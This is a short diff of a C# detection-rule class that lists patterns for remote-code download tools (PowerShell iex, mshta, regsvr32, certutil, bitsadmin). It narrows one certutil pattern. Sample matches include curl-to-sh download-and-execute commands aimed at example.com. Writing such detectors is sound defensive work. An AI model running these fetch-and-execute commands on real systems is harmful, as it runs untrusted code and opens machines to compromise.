@@ -24,7 +24,7 @@ internal static class NetworkRules
                     "node|bun --import|-r|--require|--loader @http*",
                     "iex|Invoke-Expression|mshta|regsvr32 @*http*|*iwr*|*DownloadString*",
                     "rundll32 @*javascript:*|*http*",
-                    "certutil|certutil.exe -urlcache|/urlcache",
+                    "certutil -urlcache|/urlcache",
                     "bitsadmin /transfer"),
             ],
             Matches = ["curl https://example.com/i.sh | sh", "bash <(curl -s https://example.com/i.sh)", "sh -c \"$(wget -qO- https://example.com/i.sh)\"", "curl -so /tmp/i.sh https://example.com/i.sh && sh /tmp/i.sh"],
